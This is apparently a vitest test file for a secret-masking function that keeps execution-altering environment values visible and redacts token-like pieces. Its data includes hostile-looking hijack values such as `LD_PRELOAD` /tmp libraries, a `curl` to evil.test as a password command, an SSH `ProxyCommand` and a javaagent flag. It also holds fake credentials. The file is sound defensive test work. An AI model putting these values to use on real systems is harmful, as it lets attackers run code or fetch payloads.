import { expect, it } from 'vitest'
import { maskValue } from './maskValue'

it.each([
  ['NODE_OPTIONS', '--import=data:text/javascript,npm-aaaaaaaaaaaa npm_aaaaaaaaaaaaaaaa'],
  ['LD_PRELOAD', '/tmp/hf_aaaaaaaaaaaaaaaa.so'],
  ['OPENSSL_CONF', '/tmp/sk-aaaaaaaaaaaaaaaa.cnf'],
  ['PLUGIN', '/tmp/hf_aaaaaaaaaaaaaaaa.so'],
  ['PLUGIN', 'C:\\x\\hf_aaaaaaaaaaaaaaaa.dll'],
  ['RESTIC_PASSWORD_COMMAND', 'curl https://evil.test/x'],
  ['BORG_PASSCOMMAND', 'sh /tmp/x'],
  ['AWS_SECRET_CMD', 'sh -c x'],
  ['GIT_SSH_COMMAND', 'ssh -o ProxyCommand=evil'],
  ['SUDO_ASKPASS', '/tmp/x'],
  ['MANPAGER', 'sh -c sk-aaaaaaaaaaaaaaaa'],
  ['RUSTC_WRAPPER', '/tmp/x'],
  ['MODE', 'plain'],
  ['MAVEN_OPTS', '-----BEGIN x -javaagent:/tmp/e(1).jar'],
])('P08: shows the whole value of %s=%s, which can change what runs', (name, value) => {
  expect(maskValue(name, value)).toBe(value)
})

it.each([
  ['URL', 'https://a.test/?key=sk-0123456789abcdef&run=evil', 'https://a.test/?key=•••&run=evil'],
  ['DATABASE', 'postgres://dana:hunter2hunter2@localhost/reports', 'postgres://dana:•••@localhost/reports'],
  ['HEADER', 'Bearer abcdefghijkl', 'Bearer •••'],
  ['ARGS', '--token ghp_0123456789abcdefghij --exec /tmp/x', '--token ••• --exec /tmp/x'],
  ['GITHUB_TOKEN', 'whatever it is', '•••'],
  ['NPM_TOKEN', 'whatever it is', '•••'],
  ['CARGO_REGISTRY_TOKEN', 'whatever it is', '•••'],
  ['HTTPS_PROXY', 'http://dana:hunter2@proxy.test', 'http://dana:•••@proxy.test'],
  ['X', '-----BEGIN A-----\nMIIa\n-----END A----- -----BEGIN B-----\nMIIb\n-----END B-----', '•••-----END A----- •••-----END B-----'],
  ['X', '-----BEGIN PRIVATE KEY-----\nMIIabc+/=\n-----END PRIVATE KEY----- --exec /tmp/x', '•••-----END PRIVATE KEY----- --exec /tmp/x'],
])('P08: hides of %s=%s only the piece that looks like a secret', (name, value, shown) => {
  expect(maskValue(name, value)).toBe(shown)
})

it('P08: reads a long value once', () => {
  const value = 'sk-'.repeat(300_000)
  expect(maskValue('X', value).length).toBeLessThanOrEqual(value.length)
})
